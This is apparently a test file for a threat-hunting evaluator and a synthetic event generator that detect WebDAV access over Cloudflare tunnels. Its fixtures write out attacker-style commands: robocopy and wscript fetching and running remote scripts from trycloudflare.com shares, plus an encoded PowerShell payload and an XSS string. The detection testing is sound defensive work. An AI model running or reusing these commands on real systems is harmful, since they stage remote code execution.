import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import type { HuntFields, Reading } from './lib/hunt-eval';
import { CLAUSES, clauseResults, isHit, nearMissClause, uncLiteral } from './lib/hunt-eval';
import { SAMPLE_COLUMNS } from './lib/xdr-events';
import { C_CLOUDFLARE, C_IMAGE, C_OS, C_SUB_TYPE, C_WEBDAV_NETUSE_UNC } from './lib/hunt-cases';
import { SAMPLE_FILES, buildSample, writeSample } from './gen-sample';

const sha256 = (text: string | Buffer): string => createHash('sha256').update(text).digest('hex');

const tempDirs: string[] = [];
function tempDir(): string {
  const d = mkdtempSync(join(tmpdir(), 'hunt-sample-'));
  tempDirs.push(d);
  return d;
}
afterAll(() => {
  for (const d of tempDirs) rmSync(d, { recursive: true, force: true });
});

/** A process-start on Windows with the given image and command line: only the text clauses vary. */
function win(image: string, cmd: string): HuntFields {
  return { event_type: 'PROCESS', event_sub_type: 'PROCESS_START', agent_os_type: 'AGENT_OS_WINDOWS', action_process_image_name: image, action_process_image_command_line: cmd };
}

describe('independent hunt evaluator', () => {
  const both = (f: HuntFields): [boolean, boolean] => [isHit(f, 'xql'), isHit(f, 'backslash')];

  it('reads the "\\\\\\\\" literal as four backslashes (xql) or two (backslash)', () => {
    expect(uncLiteral('xql')).toBe('\\'.repeat(4));
    expect(uncLiteral('backslash')).toBe('\\'.repeat(2));
  });

  it('robocopy from a tunnel UNC path hits only under the backslash reading', () => {
    const f = win('cmd.exe', String.raw`cmd.exe /c robocopy "\\flour-riding-merit-refers.trycloudflare.com@SSL\DavWWWRoot\x" %temp% tank.wsf /ns /nc /nfl /ndl`);
    expect(both(f)).toEqual([false, true]);
    expect(nearMissClause(f, 'xql')).toBe(C_WEBDAV_NETUSE_UNC);
  });

  it('net use to a tunnel hits under both readings', () => {
    expect(both(win('cmd.exe', String.raw`cmd.exe /c net use \\sub.trycloudflare.com@SSL\DavWWWRoot`))).toEqual([true, true]);
  });

  it('"DavWWWRoot" is not "webdav", "\\webdav\\" is', () => {
    expect(both(win('wscript.exe', String.raw`wscript.exe "\\sub.trycloudflare.com@SSL\DavWWWRoot\a.vbs"`))).toEqual([false, true]);
    expect(both(win('wscript.exe', String.raw`wscript.exe "\\sub.trycloudflare.com@SSL\webdav\a.vbs"`))).toEqual([true, true]);
  });

  it('four literal backslashes satisfy the documented reading', () => {
    expect(both(win('powershell.exe', String.raw`powershell.exe -c {"share":"\\\\x.trycloudflare.com\\dav"}`))).toEqual([true, true]);
  });

  it('is case-insensitive on text and image names', () => {
    expect(both(win('CMD.EXE', String.raw`CMD.EXE /C NET USE \\SUB.TRYCLOUDFLARE.COM@SSL\DAVWWWROOT`))).toEqual([true, true]);
    expect(isHit(win('WScript.exe', String.raw`"C:\Windows\System32\WScript.exe" "\\x.trycloudflare.com@SSL\WebDav\tat.vbs"`), 'xql')).toBe(true);
  });

  it('look-alikes without the second term, or without cloudflare, are not hits', () => {
    expect(both(win('powershell.exe', 'powershell.exe -c Invoke-WebRequest https://www.cloudflare.com/cdn-cgi/trace'))).toEqual([false, false]);
    expect(nearMissClause(win('powershell.exe', 'powershell.exe -c Invoke-WebRequest https://www.cloudflare.com/cdn-cgi/trace'), 'backslash')).toBe(C_WEBDAV_NETUSE_UNC);
    expect(both(win('cmd.exe', String.raw`cmd.exe /c net use Z: \\fileserver01\share`))).toEqual([false, false]);
    expect(nearMissClause(win('cmd.exe', String.raw`cmd.exe /c net use Z: \\fileserver01\share`), 'xql')).toBe(C_CLOUDFLARE);
    expect(both(win('cloudflared.exe', 'cloudflared.exe service install eyJhIjoi'))).toEqual([false, false]);
    expect(both(win('msiexec.exe', 'msiexec /i Cloudflare_WARP.msi'))).toEqual([false, false]);
  });

  it('the admin\'s tunnel WebDAV mount is a hit', () => {
    expect(both(win('powershell.exe', String.raw`powershell.exe net use \\tunnel.trycloudflare.com\webdav`))).toEqual([true, true]);
  });

  it('names the single failed clause of near misses', () => {
    const rundll = win('rundll32.exe', String.raw`rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie x.trycloudflare.com@SSL https://x.trycloudflare.com/webdav/`);
    expect(nearMissClause(rundll, 'xql')).toBe(C_IMAGE);
    expect(nearMissClause(win('pwsh.exe', String.raw`pwsh.exe -c net use \\x.trycloudflare.com@SSL\webdav`), 'xql')).toBe(C_IMAGE);
    const mac = { ...win('cmd.exe', String.raw`cmd.exe /c net use \\x.trycloudflare.com@SSL\DavWWWRoot`), agent_os_type: 'AGENT_OS_MAC' };
    expect(nearMissClause(mac, 'xql')).toBe(C_OS);
    const stop = { ...win('cmd.exe', String.raw`cmd.exe /c net use \\x.trycloudflare.com@SSL\DavWWWRoot`), event_sub_type: 'PROCESS_STOP' };
    expect(nearMissClause(stop, 'xql')).toBe(C_SUB_TYPE);
    expect(nearMissClause(win('cmd.exe', 'cmd.exe /c dir'), 'xql')).toBeNull();
  });

  it('normalises ENUM. prefixes and the documented numeric codes, nothing else', () => {
    const base = win('cmd.exe', String.raw`cmd.exe /c net use \\x.trycloudflare.com@SSL\DavWWWRoot`);
    expect(isHit({ ...base, event_type: 'ENUM.PROCESS', event_sub_type: 'enum.process_start', agent_os_type: 'ENUM.AGENT_OS_WINDOWS' }, 'xql')).toBe(true);
    expect(isHit({ ...base, event_type: 1, event_sub_type: 1 }, 'xql')).toBe(true);
    expect(isHit({ ...base, event_type: '1', event_sub_type: '1' }, 'xql')).toBe(true);
    expect(isHit({ ...base, event_type: 3, event_sub_type: 1 }, 'xql')).toBe(false);
    expect(isHit({ ...base, agent_os_type: 1 }, 'xql')).toBe(false);
    expect(clauseResults({ ...base, action_process_image_command_line: null }, 'xql')).toEqual([true, true, true, false, false, true]);
  });
});

describe('gen-sample output', () => {
  const a = buildSample();
  const b = buildSample();
  const exp = a.expected;
  const events = a.events.map((e) => e.ev);
  const byId = new Map(a.events.map((e) => [e.ev.event_id, e]));

  it('is deterministic in memory and on disk, and idempotent', () => {
    expect(sha256(a.csv)).toBe(sha256(b.csv));
    expect(sha256(a.ndjson)).toBe(sha256(b.ndjson));
    expect(JSON.stringify(a.expected)).toBe(JSON.stringify(b.expected));
    const d1 = tempDir();
    const d2 = tempDir();
    const r1 = writeSample(d1);
    writeSample(d2);
    for (const name of Object.values(SAMPLE_FILES)) expect(sha256(readFileSync(join(d1, name)))).toBe(sha256(readFileSync(join(d2, name))));
    expect(r1.files.every((f) => f.written)).toBe(true);
    expect(writeSample(d1).files.every((f) => !f.written)).toBe(true);
    expect(readFileSync(join(d1, SAMPLE_FILES.csv), 'utf8')).toBe(a.csv);
  });

  it('has the xdr_data header, ~4,000 rows over ~3 days, unique event ids and one agent_id per host', () => {
    expect(a.csv.slice(0, a.csv.indexOf('\r\n'))).toBe(SAMPLE_COLUMNS.join(','));
    expect(exp.rows).toBe(events.length);
    expect(exp.rows).toBeGreaterThan(3500);
    expect(exp.rows).toBeLessThan(4500);
    expect(a.ndjson.trimEnd().split('\n')).toHaveLength(exp.rows);
    expect(new Set(events.map((e) => e.event_id)).size).toBe(events.length);
    const agentByHost = new Map<string, Set<string>>();
    for (const e of events) agentByHost.set(e.agent_hostname, (agentByHost.get(e.agent_hostname) ?? new Set()).add(e.agent_id));
    expect(agentByHost.size).toBe(12);
    for (const ids of agentByHost.values()) expect(ids.size).toBe(1);
    expect(new Set(events.map((e) => e.agent_id)).size).toBe(12);
    const span = Math.max(...events.map((e) => e._time)) - Math.min(...events.map((e) => e._time));
    expect(span).toBeGreaterThan(2.5 * 86400_000);
    expect(span).toBeLessThanOrEqual(3 * 86400_000);
    expect(new Set(events.map((e) => e.agent_os_type))).toEqual(new Set(['AGENT_OS_WINDOWS', 'ENUM.AGENT_OS_WINDOWS', 'AGENT_OS_LINUX', 'ENUM.AGENT_OS_LINUX', 'AGENT_OS_MAC', 'ENUM.AGENT_OS_MAC']));
    const users = new Set(events.map((e) => e.actor_effective_username));
    expect(users.has('CORP\\jürgen.müller')).toBe(true);
    expect(users.size).toBeGreaterThanOrEqual(12);
  });

  it('has hits under both readings, backslash a strict superset, and near misses on every clause but event_type', () => {
    expect(exp.hitsXql.length).toBeGreaterThanOrEqual(8);
    expect(exp.hitsBackslash.length).toBeGreaterThan(exp.hitsXql.length);
    const bs = new Set(exp.hitsBackslash);
    for (const id of exp.hitsXql) expect(bs.has(id)).toBe(true);
    const failed = new Set(exp.nearMisses.map((n) => n.failedClauseIndex));
    for (const c of [C_SUB_TYPE, C_OS, C_CLOUDFLARE, C_WEBDAV_NETUSE_UNC, C_IMAGE]) expect(failed.has(c)).toBe(true);
    for (const n of exp.nearMisses) expect(n.failedClause).toBe(CLAUSES[n.failedClauseIndex]);
    // Malicious and benign on both sides of the line.
    const hitLabels = exp.hitsBackslash.map((id) => byId.get(id)?.label);
    expect(hitLabels.some((l) => l?.malicious)).toBe(true);
    expect(hitLabels.some((l) => l && !l.malicious)).toBe(true);
    expect(exp.nearMisses.some((n) => byId.get(n.event_id)?.label.malicious)).toBe(true);
  });

  it('lists hits and near misses in "sort desc _time" order', () => {
    for (const list of [exp.hitsXql, exp.hitsBackslash, exp.nearMisses.map((n) => n.event_id)]) {
      const times = list.map((id) => byId.get(id)?.ev._time ?? NaN);
      for (let i = 1; i < times.length; i++) expect(times[i - 1] as number).toBeGreaterThan(times[i] as number);
    }
    // The file itself is in ingestion order, so an engine that forgets to sort gets a different order.
    const fileOrderHits = events.filter((e) => isHit(e, 'backslash')).map((e) => e.event_id);
    expect(fileOrderHits).not.toEqual(exp.hitsBackslash);
  });

  it('contains the awkward cases the UI and parsers must survive', () => {
    const hitEvents = exp.hitsXql.map((id) => byId.get(id)?.ev);
    const cmds = hitEvents.map((e) => e?.action_process_image_command_line ?? '');
    expect(cmds.some((c) => /-EncodedCommand [A-Za-z0-9+/=]{40,}/.test(c))).toBe(true);
    expect(cmds.some((c) => c.includes('\n'))).toBe(true);
    expect(cmds.some((c) => c.includes('<img src=x onerror=alert(1)>'))).toBe(true);
    expect(cmds.some((c) => c.includes('"'))).toBe(true);
    expect(hitEvents.some((e) => e?.event_type === 1)).toBe(true);
    expect(hitEvents.some((e) => String(e?.event_type).startsWith('ENUM.'))).toBe(true);
    expect(exp.hitsBackslash.some((id) => byId.get(id)?.ev.action_process_image_name === 'WScript.exe')).toBe(true);
    expect(events.some((e) => (e.action_process_image_command_line ?? '').includes(','))).toBe(true);
    // The encoded payload itself names the tunnel's WebDAV path.
    const enc = /-EncodedCommand ([A-Za-z0-9+/=]+)/.exec(cmds.find((c) => c.includes('-EncodedCommand')) ?? '');
    expect(Buffer.from(enc?.[1] ?? '', 'base64').toString('utf16le')).toMatch(/trycloudflare\.com@SSL\\DavWWWRoot/);
  });

  it('every template\'s stated intent matches the evaluator, and background never hits', () => {
    for (const { ev, label } of a.events) {
      const x = isHit(ev, 'xql');
      const s = isHit(ev, 'backslash');
      const got = x && s ? 'both' : s ? 'backslash-only' : x ? 'xql-only' : 'none';
      if (label.expect) expect({ t: label.template, got }).toEqual({ t: label.template, got: label.expect });
      if (label.nearMiss !== undefined) expect({ t: label.template, clause: nearMissClause(ev, 'backslash') }).toEqual({ t: label.template, clause: label.nearMiss });
      if (label.category === 'background') expect((ev.action_process_image_command_line ?? '').toLowerCase()).not.toContain('cloudflare');
    }
  });

  const reparse = (rows: Record<string, unknown>[], reading: Reading): string[] => {
    const toField = (v: unknown): string | number | null => (v === null || v === undefined || v === '' ? null : typeof v === 'number' ? v : String(v));
    const hits = rows.filter((r) =>
      isHit(
        {
          event_type: toField(r.event_type),
          event_sub_type: toField(r.event_sub_type),
          agent_os_type: toField(r.agent_os_type),
          action_process_image_command_line: toField(r.action_process_image_command_line) as string | null,
          action_process_image_name: toField(r.action_process_image_name) as string | null,
        },
        reading,
      ),
    );
    const time = (v: unknown): number => (typeof v === 'number' ? v : Date.parse(String(v).replace(' ', 'T').replace(' UTC', 'Z')));
    return hits.sort((p, q) => time(q._time) - time(p._time)).map((r) => String(r.event_id));
  };

  it('the CSV, read back by an independent parser (papaparse), gives the same hits', () => {
    const parsed = Papa.parse<Record<string, string>>(a.csv, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(exp.rows);
    expect(parsed.meta.fields).toEqual([...SAMPLE_COLUMNS]);
    expect(reparse(parsed.data, 'xql')).toEqual(exp.hitsXql);
    expect(reparse(parsed.data, 'backslash')).toEqual(exp.hitsBackslash);
    const multiline = parsed.data.find((r) => (r.action_process_image_command_line ?? '').includes('\n'));
    expect(multiline).toBeDefined();
  });

  it('the NDJSON gives the same hits, with _time as epoch ms', () => {
    const rows = a.ndjson.trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(rows.every((r) => typeof r._time === 'number')).toBe(true);
    expect(rows.every((r) => Object.keys(r).length === SAMPLE_COLUMNS.length)).toBe(true);
    expect(reparse(rows, 'xql')).toEqual(exp.hitsXql);
    expect(reparse(rows, 'backslash')).toEqual(exp.hitsBackslash);
  });
});
